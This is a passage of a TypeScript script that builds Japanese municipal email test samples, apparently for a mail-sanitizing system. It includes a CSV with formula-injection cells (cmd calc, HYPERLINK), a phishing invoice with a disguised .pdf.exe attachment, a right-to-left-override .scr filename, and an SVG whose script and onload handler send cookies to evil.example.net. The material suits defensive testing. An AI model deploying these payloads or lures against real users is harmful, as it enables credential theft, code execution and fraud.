          'List-Unsubscribe': '<https://www.example.com/unsubscribe?id=123>',
          'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
          'X-Mailer': 'Example Mail Delivery 8',
        },
      });
    },
  },
  {
    // JPEG photo with EXIF (incl. GPS) and a Japanese file name (RFC 2231).
    file: '03-photo-exif-gps.eml',
    build: async () => {
      const jpeg = await makeSitePhoto();
      const meta = await sharp(jpeg).metadata();
      if (!meta.exif) throw new Error('03: JPEG has no EXIF');
      const gps = readExifGps(meta.exif);
      if (!gps || gps.lat !== 'N 35 40 0' || gps.lon !== 'E 139 45 0') throw new Error(`03: GPS missing: ${JSON.stringify(gps)}`);
      return compose('03photo', {
        from: { name: '見本建設株式会社 工事部 山田太郎', address: 't-yamada@example.jp' },
        to: { name: '例示市 建設部 道路課', address: 'douro@city.example.lg.jp' },
        subject: '【市道中央3号線 舗装補修工事】現場写真の送付（4月15日撮影）',
        date: jst('2026-04-15 17:42:10'),
        messageId: '<20260415174210.5f3a@example.jp>',
        text: `例示市 建設部 道路課
ご担当者様

お世話になっております。見本建設の山田です。

市道中央3号線 舗装補修工事（令和8年度 第2号）について、
本日撮影した着工前の現場写真をお送りします。

・撮影日時：令和8年4月15日（水）10時23分
・撮影箇所：中央3丁目交差点付近（ポットホール補修箇所）
・添付：現場写真.jpg（1枚）

工事写真帳は竣工時にまとめて提出いたします。
よろしくお願いいたします。

--
見本建設株式会社 工事部
山田 太郎
TEL 000-111-2222
`,
        attachments: [{ filename: '現場写真.jpg', content: jpeg, contentType: 'image/jpeg' }],
      });
    },
  },
  {
    // Shift_JIS (CP932) 8bit body and a Shift_JIS CSV with formula-injection cells.
    file: '04-shiftjis-csv.eml',
    build: async () => {
      const subject = '【提出】令和8年度 総合防災訓練 参加者名簿（中央地区）';
      const fromName = '中央地区自主防災会 事務局';
      // 表 (0x955C), ソ (0x835C) and 能 (0x945C) have 0x5C ("\") as trail byte in Shift_JIS.
      const body = `例示市 危機管理課 防災係 御中

いつもお世話になっております。
中央地区自主防災会 事務局の髙橋です。

令和8年度 例示市総合防災訓練（6月7日（日）実施）の
参加者名簿を添付にてお送りいたします。

・添付ファイル：名簿.csv（5名分）
・集合場所：例示市立中央小学校 体育館
・集合時間：午前8時30分
・当日の予定表は、昨年と同じ内容で問題ありません。

①～③班の班長は、当日7時45分までにお越しください。
名簿の表計算ソフトでの取り扱いにはご注意ください。
要配慮者の参加が可能かどうか、ご確認をお願いいたします。

――――――――――――――――
中央地区自主防災会 事務局
髙橋 一郎
TEL 090-0000-1234
――――――――――――――――
`;
      const rows: string[][] = [
        ['No', '氏名', 'フリガナ', '地区', '電話番号', '担当', '備考'],
        ['1', '髙橋 一郎', 'タカハシ イチロウ', '中央①班', '090-0000-1234', '班長', ''],
        ['2', '山﨑 花子', 'ヤマサキ ハナコ', '中央②班', '=HYPERLINK("http://evil.example/","click")', '救護', ''],
        ['3', '佐藤 次郎', 'サトウ ジロウ', '中央③班', '+81-3-1234-5678', '消火', ''],
        ['4', '鈴木 三郎', 'スズキ サブロウ', '中央①班', '03-0000-5678', '誘導', "-2+3+cmd|' /C calc'!A0"],
        ['5', '田中 美咲', 'タナカ ミサキ', '中央②班', '@SUM(A1)', '情報', '要配慮者（車いす）の付き添いあり'],
      ];
      const csv = rows.map(csvLine).join(CRLF) + CRLF;
      assertRoundTrip('04 body', body, toCp932, fromCp932);
      assertRoundTrip('04 csv', csv, toCp932, fromCp932);
      assertRoundTrip('04 subject', subject + fromName + '名簿.csv', toCp932, fromCp932);
      const sjisBody = toCp932(crlf(body));
      if (!sjisBody.includes(Buffer.from([0x95, 0x5c]))) throw new Error('04: expected 0x5C trail byte');
      const boundary = '----=_NextPart_000_0004_01DCCD2F.4A5B6C70';
      const fileWord = encodeWords('名簿.csv', 'Shift_JIS', toCp932);
      return Buffer.concat([
        headers([
          'Return-Path: <bousai-chuo@example.jp>',
          encodedHeader('From', fromName, 'Shift_JIS', toCp932, 'bousai-chuo@example.jp'),
          'To: bousai@city.example.lg.jp',
          encodedHeader('Subject', subject, 'Shift_JIS', toCp932),
          `Date: ${jst('2026-04-16 20:05:33')}`,
          'Message-ID: <000401dccd2f$4a5b6c70$0a00a8c0@example.jp>',
          'MIME-Version: 1.0',
          `Content-Type: multipart/mixed;${CRLF}\tboundary="${boundary}"`,
          'X-Mailer: Example Mail Client 2.4 (Windows)',
        ]),
        Buffer.from(`This is a multi-part message in MIME format.${CRLF}${CRLF}--${boundary}${CRLF}`, 'latin1'),
        headers(['Content-Type: text/plain; charset="Shift_JIS"', 'Content-Transfer-Encoding: 8bit']),
        sjisBody,
        Buffer.from(`${CRLF}--${boundary}${CRLF}`, 'latin1'),
        headers([`Content-Type: text/csv; charset=Shift_JIS;${CRLF}\tname="${fileWord}"`, 'Content-Transfer-Encoding: base64', `Content-Disposition: attachment;${CRLF}\tfilename="${fileWord}"`]),
        Buffer.from(base64Lines(toCp932(csv)), 'latin1'),
        Buffer.from(`${CRLF}--${boundary}--${CRLF}`, 'latin1'),
      ]);
    },
  },
  {
    // One-page PDF invoice (pdf-lib, ASCII only) named 請求書.pdf.
    file: '05-pdf-attachment.eml',
    build: async () => {
      const pdf = await makeInvoicePdf();
      return compose('05pdf', {
        from: { name: '見本システム株式会社 経理部', address: 'seikyu@example.jp' },
        to: { name: '例示市 総務部 総務課', address: 'soumu@city.example.lg.jp' },
        subject: '【請求書送付】令和8年4月分 Webシステム保守委託料',
        date: jst('2026-04-15 11:20:00'),
        messageId: '<inv-2026-0415.112000@example.jp>',
        text: `例示市 総務部 総務課 御中

平素より大変お世話になっております。
見本システム株式会社 経理部でございます。

令和8年4月分のWebシステム保守委託料につきまして、
請求書をPDFにてお送りいたします。

・請求書番号：INV-2026-0415
・請求金額：1,320,000円（税込）
・お支払期限：令和8年5月31日

原本は別途郵送いたします。ご査収のほどよろしくお願いいたします。

見本システム株式会社 経理部
`,
        attachments: [{ filename: '請求書.pdf', content: pdf, contentType: 'application/pdf' }],
      });
    },
  },
  {
    // Minimal valid .docx (hand-written zip) with Japanese text and author metadata.
    file: '06-docx-attachment.eml',
    build: async () => {
      const docx = makeReportDocx();
      return compose('06docx', {
        from: { name: '見本コンサルタント株式会社 防災計画部 見本花子', address: 'h-mihon@example.jp' },
        to: { name: '例示市 危機管理課', address: 'bousai@city.example.lg.jp' },
        subject: '令和7年度 地域防災計画改定支援業務 報告書（案）の送付',
        date: jst('2026-04-16 15:02:48'),
        messageId: '<20260416150248.a1b2c3@example.jp>',
        text: `例示市 危機管理課
ご担当者様

いつもお世話になっております。見本コンサルタントの見本です。

標記業務の報告書（案）を添付いたします。
内容をご確認のうえ、修正点等がございましたら
4月24日（金）までにご連絡いただけますと幸いです。

・添付：報告書.docx

よろしくお願いいたします。

見本コンサルタント株式会社 防災計画部
見本 花子
`,
        attachments: [
          {
            filename: '報告書.docx',
            content: docx,
            contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
          },
        ],
      });
    },
  },
  {
    // Zip archive with a Japanese text file and a PNG.
    file: '07-zip-attachment.eml',
    build: async () => {
      const txt = `令和8年度 地域づくり推進補助金 申請資料一式

1. 申請書（様式第1号）
2. 事業計画書（様式第2号）
3. 収支予算書（様式第3号）
4. 位置図（位置図.png）

提出期限：令和8年6月30日（火）
提出先：見本県 企画部 企画調整課
`;
      const zip = makeZip([
        { name: '資料一式/説明.txt', data: Buffer.from(crlf(txt), 'utf8') },
        { name: '資料一式/位置図.png', data: await makeSmallPng() },
      ]);
      return compose('07zip', {
        from: { name: PREF_KIKAKU, address: 'kikaku@pref.example.jp' },
        to: { name: '例示市 企画課', address: 'kikaku@city.example.lg.jp' },
        subject: '地域づくり推進補助金 申請資料一式の送付について',
        date: jst('2026-04-21 10:15:00'),
        messageId: '<20260421101500.0007.kikaku@pref.example.jp>',
        text: `例示市 企画課 ご担当者様

見本県企画調整課です。
先日の説明会でご案内した申請資料一式を、zip形式でお送りします。

・資料一式.zip（説明.txt、位置図.png）

提出期限は令和8年6月30日（火）です。
ご不明な点がありましたら、担当までお問い合わせください。

見本県 企画部 企画調整課 地域振興担当
`,
        attachments: [{ filename: '資料一式.zip', content: zip, contentType: 'application/zip' }],
      });
    },
  },
  {
    // Executable disguised by double extension and a lying Content-Type.
    file: '08-exe-attachment.eml',
    build: async () => {
      const exe = makeFakeExe();
      const ft = await fileTypeFromBuffer(exe);
      if (ft?.ext !== 'exe') throw new Error(`08: file-type detected ${JSON.stringify(ft)} instead of exe`);
      return compose('08exe', {
        from: { name: '見本商事株式会社 経理担当', address: 'billing@example.com' },
        replyTo: 'billing-support@evil.example.net',
        to: { name: '例示市 会計課', address: 'kaikei@city.example.lg.jp' },
        subject: '【至急】請求書の再送について（お支払い期限：本日）',
        date: jst('2026-04-17 08:47:12'),
        messageId: '<CAF8d1e2a3b4c5d6e7f8@example.com>',
        text: `例示市 会計課 ご担当者様

お世話になっております。見本商事 経理担当です。

先日お送りした請求書に誤りがあったため、修正版を再送いたします。
お支払い期限が本日となっておりますので、
添付の請求書を至急ご確認のうえ、お手続きをお願いいたします。

※ファイルが開けない場合は「編集を有効にする」を押してください。

見本商事株式会社 経理担当
`,
        attachments: [{ filename: '請求書.pdf.exe', content: exe, contentType: 'application/pdf' }],
      });
    },
  },
  {
    // Forward with the original ISO-2022-JP mail attached as message/rfc822.
    file: '09-forwarded-mail.eml',
    build: async () => {
      const innerSubject = '【見本県】令和8年度 防災訓練の実施日程について（照会）';
      const innerFrom = '見本県 危機管理課';
      const innerBody = [
        '各市町村 防災担当課 御中',
        '',
        '見本県危機管理課です。',
        '令和8年度の県・市町村合同防災訓練について、下記のとおり照会します。',
        '',
        '１　照会事項　各市町村の総合防災訓練の実施予定日、会場、参加見込人数',
        '２　回答期限　令和8年4月30日（木）',
        '３　回答方法　県防災ポータルの照会機能から回答してください。',
        '　　https://bousai.pref.example.jp/shokai/2026-01',
        '',
        '※昨年度の実績は、同ポータルの「過去の照会」から確認できます。',
        '',
        '見本県 危機管理課 防災企画担当',
        'TEL 000-000-0100',
        '',
      ].join('\n');
      assertRoundTrip('09 inner', innerSubject + innerFrom + innerBody.replace(/\n/g, ''), toJis, fromJis);
      const inner = Buffer.concat([
        headers([
          encodedHeader('From', innerFrom, 'ISO-2022-JP', toJis, 'kikikanri@pref.example.jp'),
          'To: jimukyoku@example.jp',
          encodedHeader('Subject', innerSubject, 'ISO-2022-JP', toJis),
          `Date: ${jst('2026-04-17 13:00:00')}`,
          'Message-ID: <20260417130000.0009.kikikanri@pref.example.jp>',
          'MIME-Version: 1.0',
          'Content-Type: text/plain; charset=ISO-2022-JP',
          'Content-Transfer-Encoding: 7bit',
        ]),
        jisBody(innerBody),
      ]);
      return compose('09forward', {
        from: { name: '見本県市町村会 事務局 佐藤', address: 'jimukyoku@example.jp' },
        to: { name: '例示市 危機管理課', address: 'bousai@city.example.lg.jp' },
        subject: `転送: ${innerSubject}`,
        date: jst('2026-04-17 16:30:05'),
        messageId: '<20260417163005.fwd.0009@example.jp>',
        text: `例示市 危機管理課 ご担当者様

市町村会事務局の佐藤です。
県危機管理課からの照会を転送いたします。
（元のメールを添付しています）

回答期限が4月30日（木）となっておりますので、ご注意ください。

見本県市町村会 事務局
佐藤
`,
        attachments: [{ filename: `${innerSubject}.eml`, content: inner, contentType: 'message/rfc822', contentDisposition: 'attachment' }],
      });
    },
  },
  {
    // EUC-JP 8bit body with a >1000 character line; raw 8-bit UTF-8 Subject/From.
    file: '10-eucjp-plain.eml',
    build: async () => {
      const items = [
        '中央1丁目の市道側溝の蓋が破損しており、歩行者がつまずく危険があるため早急な補修を要望します',
        '東町公園の街路灯が3基点灯しておらず、夜間の防犯上不安があるためLED化を含めた更新を要望します',
        '西町バス停付近の横断歩道の白線が消えかかっているため、引き直しを要望します',
        '南町集会所の耐震診断の結果を踏まえ、令和8年度中の改修工事の実施を要望します',
        '中央小学校前の通学路にガードレールの設置を要望します',
        '防災倉庫の備蓄品（飲料水、簡易トイレ、毛布）の更新時期について情報提供を要望します',
        '高齢者世帯へのごみ出し支援制度の対象拡大を要望します',
        '地区内の空き家（北町2丁目）について、倒壊のおそれがあるため所有者への指導を要望します',
        '河川敷の草刈りの回数を年2回から3回に増やすことを要望します',
        '防災行政無線の放送が聞き取りにくい地域があるため、戸別受信機の貸与を要望します',
        '地区の指定避難所（中央小学校体育館）への空調設備の早期設置を要望します',
        'コミュニティバスの運行本数を平日の朝夕に増便することを要望します',
        '市道北町線の路面のひび割れが進行しているため、舗装の打ち換えを要望します',
      ];
      // Repeat the list twice with numbering so the single line exceeds 1000 characters.
      const longLine = [...items, ...items.map((s) => `${s}（再掲）`)].map((s, i) => `【要望${i + 1}】${s}。`).join('');
      if (longLine.length <= 1000) throw new Error(`10: long line only ${longLine.length} chars`);
      const body = `例示市 市民協働課 御中

平素より地域の活動にご支援をいただき、ありがとうございます。
見本町内会連合会 事務局です。

令和8年度の地区要望書を提出いたします。
（事務局のパソコンが古く、改行が入らない形式で失礼いたします）

${longLine}

以上、よろしくご検討のほどお願い申し上げます。

見本町内会連合会 事務局
`;
      assertRoundTrip('10 body', body, toEucJp, fromEucJp);
      return Buffer.concat([
        headers([
          'Return-Path: <rengoukai@example.jp>',
          Buffer.from('From: 見本町内会連合会 事務局 <rengoukai@example.jp>', 'utf8'),
          'To: kyoudou@city.example.lg.jp',
          Buffer.from('Subject: 令和8年度 地区要望書の提出について（見本町内会連合会）', 'utf8'),
          `Date: ${jst('2026-04-20 21:14:09')}`,
          'Message-ID: <200604202114.AA01234@example.jp>',
          'MIME-Version: 1.0',
          'Content-Type: text/plain; charset=EUC-JP',
          'Content-Transfer-Encoding: 8bit',
          'X-Mailer: Example Mail 1.9.4 (Linux)',
        ]),
        toEucJp(crlf(body)),
      ]);
    },
  },
  {
    // Attachment name with U+202E RIGHT-TO-LEFT OVERRIDE ("議事録<RLO>fdp.scr" shows as 議事録rcs.pdf).
    file: '11-rtlo-filename.eml',
    build: async () => {
      return compose('11rtlo', {
        from: { name: '見本運輸株式会社 総務部', address: 'soumu@example.com' },
        to: { name: '例示市 総務課', address: 'soumu@city.example.lg.jp' },
        subject: '4月14日 連絡協議会の議事録送付',
        date: jst('2026-04-20 09:05:00'),
        messageId: '<20260420090500.rtlo.0011@example.com>',
        text: `例示市 総務課 ご担当者様

お世話になっております。見本運輸 総務部です。

4月14日（火）に開催された連絡協議会の議事録（PDF）を添付いたします。
ご確認をお願いいたします。

見本運輸株式会社 総務部
`,
        attachments: [{ filename: '議事録\u202Efdp.scr', content: makeFakeExe(), contentType: 'application/octet-stream' }],
      });
    },
  },
  {
    // Broken MIME: no closing boundary, bare LF in parts, NUL byte, GIF attachment.
    file: '12-malformed-mime.eml',
    build: async () => {
      const gif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#3366cc' } })
        .gif()
        .toBuffer();
      const boundary = '=_broken_boundary_12';
      const text = '例示市 総務課 御中\n\n先日の防災訓練の写真を送ります。\n' + '（前回は文字化けしていたようなので再送します）\0\n\n見本写真館\n';
      return Buffer.concat([
        headers([
          'Return-Path: <photo@example.com>',
          encodedHeader('From', '見本写真館', 'UTF-8', toUtf8, 'photo@example.com'),
          'To: soumu@city.example.lg.jp',
          encodedHeader('Subject', '防災訓練の写真（再送）', 'UTF-8', toUtf8),
          `Date: ${jst('2026-04-21 12:00:00')}`,
          'Message-ID: <broken.20260421120000.0012@example.com>',
          'MIME-Version: 1.0',
          `Content-Type: multipart/mixed; boundary="${boundary}"`,
        ]),
        // From here on: bare LF line endings.
        Buffer.from(`This is a multi-part message in MIME format.\n--${boundary}\n`, 'latin1'),
        Buffer.from('Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n', 'latin1'),
        Buffer.from(text, 'utf8'),
        Buffer.from(`--${boundary}\n`, 'latin1'),
        Buffer.from('Content-Type: image/gif; name=kunren photo.gif\n' + 'Content-Disposition: attachment; filename="kunren.gif"\n' + 'Content-Transfer-Encoding: base64\n\n', 'latin1'),
        Buffer.from(base64Lines(gif, '\n'), 'latin1'),
        // Deliberately no closing "--boundary--".
      ]);
    },
  },
  {
    // Calendar invitation (METHOD:REQUEST) as text/calendar alternative + invite.ics.
    file: '13-calendar-invite.eml',
    build: async () => {
      const ics =
        [
          'BEGIN:VCALENDAR',
          'PRODID:-//Example//Groupware 5.2//JA',
          'VERSION:2.0',
          'CALSCALE:GREGORIAN',
          'METHOD:REQUEST',
          'BEGIN:VTIMEZONE',
          'TZID:Asia/Tokyo',
          'BEGIN:STANDARD',
          'DTSTART:19700101T000000',
          'TZOFFSETFROM:+0900',
          'TZOFFSETTO:+0900',
          'TZNAME:JST',
          'END:STANDARD',
          'END:VTIMEZONE',
          'BEGIN:VEVENT',
          'UID:20260422T090000-bousai-uchiawase-01@pref.example.jp',
          'DTSTAMP:20260422T000000Z',
          'DTSTART;TZID=Asia/Tokyo:20260522T100000',
          'DTEND;TZID=Asia/Tokyo:20260522T120000',
          'SUMMARY:【会議】令和8年度 県・市町村合同防災訓練 第1回打合せ',
          'LOCATION:見本県庁 本館3階 防災センター会議室（Web併用）',
          'DESCRIPTION:各市町村 防災担当課 御中\\n\\n令和8年度 県・市町村合同防災訓練の第1回打合せを開催します。' +
            '\\n出欠を返信してください。\\n\\nWeb参加：https://meet.example.com/j/8812345678?pwd=abc123' +
            '\\n資料：https://bousai.pref.example.jp/kunren/2026/shiryo.html',
          'ORGANIZER;CN="見本県 危機管理課":mailto:kikikanri@pref.example.jp',
          'ATTENDEE;CN="例示市 危機管理課";ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:bousai@city.example.lg.jp',
          'SEQUENCE:0',
          'STATUS:CONFIRMED',
          'TRANSP:OPAQUE',
          'BEGIN:VALARM',
          'ACTION:DISPLAY',
          'DESCRIPTION:防災訓練 打合せ',
          'TRIGGER:-PT30M',
          'END:VALARM',
          'END:VEVENT',
          'END:VCALENDAR',
        ]
          .map(icsFold)
          .join(CRLF) + CRLF;
      return compose('13ics', {
        from: { name: '見本県 危機管理課', address: 'kikikanri@pref.example.jp' },
        to: { name: '例示市 危機管理課', address: 'bousai@city.example.lg.jp' },
        subject: '【会議招集】令和8年度 県・市町村合同防災訓練 第1回打合せ（5月22日）',
        date: jst('2026-04-22 09:00:00'),
        messageId: '<20260422090000.0013.kikikanri@pref.example.jp>',
        text: `各市町村 防災担当課 御中

見本県危機管理課です。
令和8年度 県・市町村合同防災訓練の第1回打合せを下記のとおり開催します。

日時：令和8年5月22日（金）10時00分～12時00分
場所：見本県庁 本館3階 防災センター会議室（Web併用）

会議招集に出欠をご返信ください。
`,
        icalEvent: { method: 'REQUEST', filename: 'invite.ics', content: ics },
      });
    },
  },
  {
    // SVG "map" with script, event handler, javascript: link and remote resources.
    file: '14-svg-attachment.eml',
    build: async () => {
      const svg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" viewBox="0 0 400 300" onload="fetch('https://evil.example.net/c?'+document.cookie)">
  <title>例示市 中央地区 避難所マップ（案）</title>
  <script type="text/javascript"><![CDATA[
    var u = 'https://evil.example.net/steal?c=' + encodeURIComponent(document.cookie);
    new Image().src = u;
  ]]></script>
  <rect x="0" y="0" width="400" height="300" fill="#eef5e9"/>
  <path d="M0 150 L400 140" stroke="#999" stroke-width="12"/>
  <path d="M200 0 L210 300" stroke="#999" stroke-width="10"/>
  <circle cx="120" cy="90" r="14" fill="#2a7"/>
  <text x="140" y="95" font-size="14">中央小学校（指定避難所）</text>
  <circle cx="290" cy="220" r="14" fill="#2a7"/>
  <text x="310" y="225" font-size="14">中央公民館</text>
  <a xlink:href="javascript:alert(document.domain)"><text x="10" y="290" font-size="12" fill="#00c">避難所一覧を表示</text></a>
  <image href="https://track.example.com/svg-open.png?id=456" x="0" y="0" width="1" height="1"/>
  <foreignObject x="0" y="0" width="1" height="1">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example.net/frame"></iframe>
  </foreignObject>
</svg>
`;
      return compose('14svg', {
        from: { name: '見本デザイン事務所', address: 'design@example.jp' },
        to: { name: '例示市 危機管理課', address: 'bousai@city.example.lg.jp' },
        subject: '避難所マップ（案）のご確認のお願い',
        date: jst('2026-04-22 14:30:00'),
        messageId: '<20260422143000.svg.0014@example.jp>',
        text: `例示市 危機管理課 ご担当者様

見本デザイン事務所です。
中央地区の避難所マップ（案）をSVG形式でお送りします。
ブラウザで開いてご確認ください。

見本デザイン事務所
`,
        attachments: [{ filename: '避難所マップ.svg', content: Buffer.from(crlf(svg), 'utf8'), contentType: 'image/svg+xml' }],
      });
    },
  },
  {
    // A citizen's inquiry from Gmail with a table pasted from a spreadsheet: the first of a reply chain of three.
    file: '15-gmail-table.eml',
    build: async () =>
      compose('15gmail', {
        from: { name: '山田 花子', address: 'hanako.yamada@example.com' },
        to: { name: '例示市 土木課', address: 'doboku@city.example.lg.jp' },
        subject: 'お問い合わせ（道路の穴について）',
        date: jst('2026-12-05 09:12:00'),
        messageId: '<CAJx1Yq=kq+AbC1dEf2GhI3jK4lM5nO6@mail.gmail.com>',
        text: GMAIL_TABLE_TEXT,
        html: GMAIL_TABLE_HTML,
      }),
  },
  {
    // Her reply to the clerk's answer: threading headers, and a subject tagged by mugaika once already.
    file: '16-gmail-reply.eml',
    build: async () =>
      compose('16reply', {
        from: { name: '山田 花子', address: 'hanako.yamada@example.com' },
        to: { name: '例示市 土木課', address: 'doboku@city.example.lg.jp' },
        subject: 'Re: [無害化] お問い合わせ（道路の穴について）',
        date: jst('2026-12-07 18:03:00'),
        messageId: '<CAJx2Yq=kq+AbC2dEf3GhI4jK5lM6nO7@mail.gmail.com>',
        inReplyTo: CHAIN.answer1,
        references: [CHAIN.delivered1, CHAIN.answer1],
        text: `土木課 ご担当者様

ご連絡ありがとうございます。
穴の場所は、郵便局の前の横断歩道から北に5メートルほどのところです。
写真が必要でしたら、お送りします。

山田 花子

${quoted(`土木課の田中です。お問い合わせの件、現地を確認します。詳しい場所を教えていただけますか。`)}
`,
      }),
  },
  {
    // Her second reply: the tag is now stacked twice in what her mailer sends back.
    file: '17-gmail-reply-again.eml',
    build: async () =>
      compose('17reply', {
        from: { name: '山田 花子', address: 'hanako.yamada@example.com' },
        to: { name: '例示市 土木課', address: 'doboku@city.example.lg.jp' },
        subject: 'Re: [無害化] Re: [無害化] お問い合わせ（道路の穴について）',
        date: jst('2026-12-09 07:45:00'),
        messageId: '<CAJx3Yq=kq+AbC3dEf4GhI5jK6lM7nO8@mail.gmail.com>',
        inReplyTo: CHAIN.answer2,
        references: [CHAIN.delivered1, CHAIN.answer1, CHAIN.delivered2, CHAIN.answer2],
        text: `土木課 ご担当者様

今朝通ったら、穴がふさがっていました。
早く対応していただき、ありがとうございました。

山田 花子

${quoted(`土木課の田中です。本日、補修しました。ご連絡ありがとうございました。`)}
`,
      }),
  },
  {
    // A contractor's zip made with Info-ZIP on Linux: UTF-8 names without the UTF-8 flag.
    file: '18-infozip-names.eml',
    build: async () => {
      const zip = makeZip(
        [
          { name: '工事写真/説明_資料.txt', data: Buffer.from(crlf('市道中央3号線 舗装補修工事\n工事写真の説明です。\n'), 'utf8') },
          { name: '工事写真/位置図.png', data: await makeSmallPng() },
        ],
        undefined,
        { utf8Flag: false, madeBy: 0x031e },
      );
      return compose('18infozip', {
        from: { name: '見本建設 工事部', address: 'koji@example.co.jp' },
        to: { name: '例示市 土木課', address: 'doboku@city.example.lg.jp' },
        subject: '【市道中央3号線】工事写真の送付',
        date: jst('2026-12-10 16:20:00'),
        messageId: '<20261210162000.0018.koji@example.co.jp>',
        text: `例示市 土木課 ご担当者様

見本建設の工事部です。
市道中央3号線の工事写真と説明資料をお送りします。

見本建設株式会社 工事部
`,
        attachments: [{ filename: '工事写真.zip', content: zip, contentType: 'application/zip' }],
      });
    },
  },
  {
    // A citizen's zip made by macOS's Archive Utility: decomposed UTF-8 names without the flag, __MACOSX metadata.
    file: '19-macos-zip.eml',
    build: async () => {
      const nfd = (s: string): string => s.normalize('NFD');
      const appleDouble = Buffer.concat([Buffer.from([0x00, 0x05, 0x16, 0x07, 0x00, 0x02, 0x00, 0x00]), Buffer.from('Mac OS X        ', 'latin1'), Buffer.alloc(58)]);
      const zip = makeZip(
        [
          { name: nfd('申請書類/ダウンロード手順.txt'), data: Buffer.from(crlf('申請書のダウンロード手順\n1. 市のホームページを開く\n2. 「申請書」を選ぶ\n'), 'utf8') },
          { name: '__MACOSX/' + nfd('申請書類/._ダウンロード手順.txt'), data: appleDouble },
        ],
        undefined,
        { utf8Flag: false, madeBy: 0x0315 },
      );
      return compose('19macos', {
        from: { name: '佐藤 一郎', address: 'ichiro.sato@example.jp' },
        to: { name: '例示市 市民課', address: 'shimin@city.example.lg.jp' },
        subject: '申請書類について',
        date: jst('2026-12-11 11:05:00'),
        messageId: '<A1B2C3D4-0019-4E5F-8A9B-0C1D2E3F4A5B@example.jp>',
        text: `市民課 ご担当者様

申請書類の手順をまとめましたので、ご確認ください。

佐藤 一郎
`,
        attachments: [{ filename: '申請書類.zip', content: zip, contentType: 'application/zip' }],
      });
    },
  },
];

// ---------------------------------------------------------------------------
// Main
// ---------------------------------------------------------------------------

/** Files allowed to contain bare LF (deliberately malformed). */
const BARE_LF_OK = new Set(['12-malformed-mime.eml']);

async function verify(file: string, raw: Buffer): Promise<void> {
  const parsed = await simpleParser(raw);
  const oneLine = (s: string | undefined, n: number): string => (s ?? '').replace(/\s+/g, ' ').trim().slice(0, n);
  console.log(`\n== ${file}`);
  console.log(`  Subject: ${parsed.subject ?? '(none)'}`);
  console.log(`  From:    ${parsed.from?.text ?? '(none)'}`);
  console.log(`  Date:    ${parsed.date?.toISOString() ?? '(none)'}`);
  console.log(`  Text:    ${oneLine(parsed.text, 110)}`);
  if (parsed.html) console.log(`  HTML:    ${parsed.html.length} chars`);
  for (const a of parsed.attachments) {
    console.log(`  Attach:  ${JSON.stringify(a.filename)} ${a.contentType} ${a.size} bytes`);
  }
}

async function main(): Promise<void> {
  const doVerify = process.argv.includes('--verify');
  await mkdir(SAMPLES_DIR, { recursive: true });
  for (const sample of samples) {
    const data = await sample.build();
    if (!BARE_LF_OK.has(sample.file) && /(^|[^\r])\n/.test(data.toString('latin1'))) {
      throw new Error(`${sample.file}: contains bare LF`);
    }
    const target = path.join(SAMPLES_DIR, sample.file);
    await writeFile(target, data);
    const sha = createHash('sha256').update(data).digest('hex');
    console.log(`${sample.file.padEnd(28)} ${String(data.length).padStart(9)} bytes  sha256 ${sha.slice(0, 16)}`);
    if (doVerify) await verify(sample.file, await readFile(target));
  }
}

main().catch((err: unknown) => {
  console.error(err);
  process.exitCode = 1;
});
